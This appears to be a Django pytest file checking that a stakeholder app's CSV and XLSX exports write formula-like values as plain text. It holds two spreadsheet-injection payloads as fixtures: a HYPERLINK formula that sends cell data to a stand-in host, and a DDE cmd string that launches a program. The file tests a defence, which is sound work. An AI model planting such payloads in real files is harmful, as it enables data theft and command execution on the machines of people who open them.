"""Exported cells a spreadsheet would run as formulas are written as text (CSV and XLSX
separately: each writer must escape on its own)."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from stakeholders.choices import StakeholderKind
from tests.factories import StakeholderFactory

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("http://contoh.test/curi?d="&A1,"Klik")'
HOSTILE_ADDRESS = "@SUM(1+1)*cmd|' /C calc'!A0"
PHONE = "+62 401 312 3456"


@pytest.fixture
def hostile():
    return StakeholderFactory(
        kind=StakeholderKind.P3MI, name=HOSTILE_NAME, address=HOSTILE_ADDRESS, phone=PHONE
    )


def body(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def csv_rows(response):
    return list(csv.DictReader(io.StringIO(body(response).decode("utf-8-sig"))))


def test_the_staff_csv_export_quotes_formulas(client, staf_data, hostile):
    client.force_login(staf_data)
    (row,) = csv_rows(client.get(reverse("stakeholders:export_csv")))
    assert row["nama"] == "'" + HOSTILE_NAME
    assert row["alamat"] == "'" + HOSTILE_ADDRESS
    assert row["telepon"] == PHONE  # a phone number is not a formula


def test_the_public_csv_download_quotes_formulas(client, hostile):
    rows = csv_rows(client.get(reverse("stakeholders:download_csv")))
    (row,) = [r for r in rows if HOSTILE_NAME in r.get("nama", "")]
    assert row["nama"] == "'" + HOSTILE_NAME


def test_the_staff_xlsx_export_writes_formulas_as_text(client, staf_data, hostile):
    client.force_login(staf_data)
    response = client.get(reverse("stakeholders:export_xlsx"))
    sheet = load_workbook(io.BytesIO(body(response))).active
    header = [cell.value for cell in sheet[1]]
    name = sheet.cell(row=2, column=header.index("nama") + 1)
    address = sheet.cell(row=2, column=header.index("alamat") + 1)
    # openpyxl stores a string starting with "=" as a formula ("f") unless it is escaped.
    assert name.data_type == "s" and name.value == "'" + HOSTILE_NAME
    assert address.data_type == "s" and address.value == "'" + HOSTILE_ADDRESS
